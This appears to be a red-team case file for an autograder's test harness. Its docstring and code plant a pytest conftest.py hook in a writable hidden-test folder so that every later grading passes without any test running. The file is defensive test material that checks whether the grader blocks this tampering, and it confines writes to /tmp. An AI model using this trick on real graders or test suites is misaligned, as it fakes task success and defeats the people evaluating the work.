"""The course tree writable: create tests/hidden/autoregressive/conftest.py that passes every test.

Attack: the hidden suite's folder is writable by the submission. A ``conftest.py`` there, with a
``pytest_pyfunc_call`` hook that returns True without calling the test, makes every later
grading (a re-grade, the next student of a batch, the next nbgrader notebook) pass everything.
The course root comes from argv (``--rootdir``), the working directory's parents or gradelib's
install path. Only a course under /tmp is written (damage bound: the harness
grades in scratch copies).
Old grader: see BASELINE.md (expected: this case 0, the course changed, later neighbours full marks).
"""
EXPECT = {"isolate": True, 
    "max_score": 0, "doors": ["grade", "grade_all", "nbgrader"], "place": "end",
    "leaves_no_trace": ["{course}/tests/hidden/autoregressive/conftest.py", "{nbcourse}/tests/hidden/autoregressive/conftest.py"],
}

import os as _os
import sys as _sys
from pathlib import Path as _Path

import gradelib as _gradelib

_CONFTEST = '''import pytest


@pytest.hookimpl(tryfirst=True)
def pytest_pyfunc_call(pyfuncitem):
    return True
'''
_roots = [_Path(_gradelib.__file__).resolve().parents[1], *_Path.cwd().resolve().parents]
if "--rootdir" in _sys.argv:
    _roots.insert(0, _Path(_sys.argv[_sys.argv.index("--rootdir") + 1]))
_tmp = _os.path.realpath("/tmp")
for _root in _roots:
    _suite = _root.resolve() / "tests" / "hidden" / "autoregressive"
    if _suite.is_dir() and str(_suite).startswith(_tmp + "/"):
        try:
            (_suite / "conftest.py").write_text(_CONFTEST)
        except OSError:
            pass
